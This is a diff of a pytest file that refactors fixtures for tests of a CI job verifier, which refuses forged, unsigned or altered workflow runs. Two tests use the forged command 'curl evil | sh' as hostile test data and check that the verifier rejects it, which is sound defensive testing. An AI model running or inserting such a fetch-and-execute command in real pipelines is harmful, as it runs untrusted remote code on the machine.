@@ -41,8 +41,7 @@ workflows:
 pytestmark = pytest.mark.keys
 
 
-@pytest.fixture
-def here(tmp_path: Path) -> Place:
+def prepared(tmp_path: Path) -> Place:
     top = work(tmp_path / "code")
     (top / ".dstack/workflows.yaml").write_text(FLOW)
     sh(top, "commit", "--quiet", "-am", "two workflows")
@@ -53,6 +52,19 @@ def here(tmp_path: Path) -> Place:
     identity = records.write_id(made.cache.objects, "repository-1")
     assert made.cache.push([RefUpdate(refs.ID, None, identity)], atomic=True).won
     return made
+
+
+@pytest.fixture
+def here(tmp_path: Path) -> Place:
+    return prepared(tmp_path)
+
+
+@pytest.fixture(scope="module")
+def kept(tmp_path_factory: pytest.TempPathFactory) -> Place:
+    """With a signed run; for tests that change nothing of it."""
+    one = prepared(tmp_path_factory.mktemp("kept"))
+    one.submit()
+    return one
 
 
 def judge(here: Place, tmp_path: Path, **more: bool) -> Judge:
@@ -94,13 +106,12 @@ def told(one: Judge, here: Place, attempt: Attempt, planned: PlannedJob, seen: O
     return "later" if found is None else "runs"
 
 
-def test_a_signed_run_is_executed_as_derived_from_its_root(here: Place, tmp_path: Path) -> None:
-    here.submit()
-    one, planned = judge(here, tmp_path), jobs_of(here)["hello"]
-    seen = here.ledger.observe()
+def test_a_signed_run_is_executed_as_derived_from_its_root(kept: Place, tmp_path: Path) -> None:
+    one, planned = judge(kept, tmp_path), jobs_of(kept)["hello"]
+    seen = kept.ledger.observe()
     one.look(seen)
     forged = msgspec.structs.replace(planned.job, commands=("curl evil | sh",))
-    assert one.verdict(attempt_of(here, planned), planned.oid, forged, seen) == planned.job
+    assert one.verdict(attempt_of(kept, planned), planned.oid, forged, seen) == planned.job
 
 
 def test_an_unsigned_run_one_of_a_stranger_and_one_with_an_unsigned_commit_are_refused(
@@ -140,38 +151,34 @@ def test_an_unsigned_run_one_of_a_stranger_and_one_with_an_unsigned_commit_are_r
     ],
 )
 def test_an_assignment_that_was_altered_is_refused(
-    here: Place, tmp_path: Path, changes: dict[str, object], said: str
+    kept: Place, tmp_path: Path, changes: dict[str, object], said: str
 ) -> None:
-    here.submit()
-    planned = jobs_of(here)["hello"]
-    altered = msgspec.structs.replace(attempt_of(here, planned), **changes)
-    answer = told(judge(here, tmp_path), here, altered, planned)
+    planned = jobs_of(kept)["hello"]
+    altered = msgspec.structs.replace(attempt_of(kept, planned), **changes)
+    answer = told(judge(kept, tmp_path), kept, altered, planned)
     assert answer == f"the assignment was altered: it contradicts the signed run in its {said}"
 
 
-def test_an_input_that_is_given_twice_is_refused(here: Place, tmp_path: Path) -> None:
-    here.submit()
-    planned = jobs_of(here)["hello"]
-    good = attempt_of(here, planned)
+def test_an_input_that_is_given_twice_is_refused(kept: Place, tmp_path: Path) -> None:
+    planned = jobs_of(kept)["hello"]
+    good = attempt_of(kept, planned)
     twice = msgspec.structs.replace(good, inputs=(*good.inputs, *good.inputs))
-    assert told(judge(here, tmp_path), here, good, planned) == "runs"
-    assert told(judge(here, tmp_path), here, twice, planned).endswith("in its inputs")
+    assert told(judge(kept, tmp_path), kept, good, planned) == "runs"
+    assert told(judge(kept, tmp_path), kept, twice, planned).endswith("in its inputs")
 
 
-def test_a_job_that_is_not_of_the_run_is_refused(here: Place, tmp_path: Path) -> None:
-    here.submit()
-    planned = jobs_of(here)["hello"]
+def test_a_job_that_is_not_of_the_run_is_refused(kept: Place, tmp_path: Path) -> None:
+    planned = jobs_of(kept)["hello"]
     job = msgspec.structs.replace(planned.job, commands=("curl evil | sh",))
     forged = PlannedJob(oid="b" * 40, job=job)
-    attempt = msgspec.structs.replace(attempt_of(here, planned), job=forged.id)
-    assert "is no job of the signed run" in told(judge(here, tmp_path), here, attempt, forged)
+    attempt = msgspec.structs.replace(attempt_of(kept, planned), job=forged.id)
+    assert "is no job of the signed run" in told(judge(kept, tmp_path), kept, attempt, forged)
 
 
-def test_a_run_that_is_not_there_under_its_name_is_refused(here: Place, tmp_path: Path) -> None:
-    here.submit()
-    planned = jobs_of(here)["hello"]
-    attempt = msgspec.structs.replace(attempt_of(here, planned), run="fast-rabbit-1.000000000000")
-    assert "no run fast-rabbit-1.000000000000" in told(judge(here, tmp_path), here, attempt, planned)
+def test_a_run_that_is_not_there_under_its_name_is_refused(kept: Place, tmp_path: Path) -> None:
+    planned = jobs_of(kept)["hello"]
+    attempt = msgspec.structs.replace(attempt_of(kept, planned), run="fast-rabbit-1.000000000000")
+    assert "no run fast-rabbit-1.000000000000" in told(judge(kept, tmp_path), kept, attempt, planned)
 
 
 def test_a_run_for_another_runner_alone_is_refused(here: Place, tmp_path: Path) -> None:
@@ -195,27 +202,25 @@ def test_the_shared_settings_tighten_and_never_loosen(here: Place, tmp_path: Pat
         assert "it is not signed" in told(strict, here, attempt_of(here, planned), planned, replace(seen, config=text))
 
 
-def test_signers_that_cannot_be_read_now_are_no_verdict(here: Place, tmp_path: Path) -> None:
-    here.submit()
-    planned, one = jobs_of(here)["hello"], judge(here, tmp_path)
+def test_signers_that_cannot_be_read_now_are_no_verdict(kept: Place, tmp_path: Path) -> None:
+    planned, one = jobs_of(kept)["hello"], judge(kept, tmp_path)
     (tmp_path / "signers").rename(tmp_path / "away")
-    assert told(one, here, attempt_of(here, planned), planned) == "later"
+    assert told(one, kept, attempt_of(kept, planned), planned) == "later"
     assert "can't be read" in one.pause
     (tmp_path / "away").rename(tmp_path / "signers")
-    assert told(one, here, attempt_of(here, planned), planned) == "runs"
+    assert told(one, kept, attempt_of(kept, planned), planned) == "runs"
     assert one.pause == ""
 
 
-def test_a_commit_that_cannot_be_read_now_is_no_verdict(here: Place, tmp_path: Path) -> None:
-    here.submit()
-    planned, one = jobs_of(here)["hello"], judge(here, tmp_path)
+def test_a_commit_that_cannot_be_read_now_is_no_verdict(kept: Place, tmp_path: Path) -> None:
+    planned, one = jobs_of(kept)["hello"], judge(kept, tmp_path)
 
     def broken() -> object:
         msg = "object x can't be read"
         raise Damaged(msg)
 
     one.objects = broken  # type: ignore[assignment]
-    assert told(one, here, attempt_of(here, planned), planned) == "later"
+    assert told(one, kept, attempt_of(kept, planned), planned) == "later"
 
 
 @pytest.mark.parametrize("signed", [True, False])
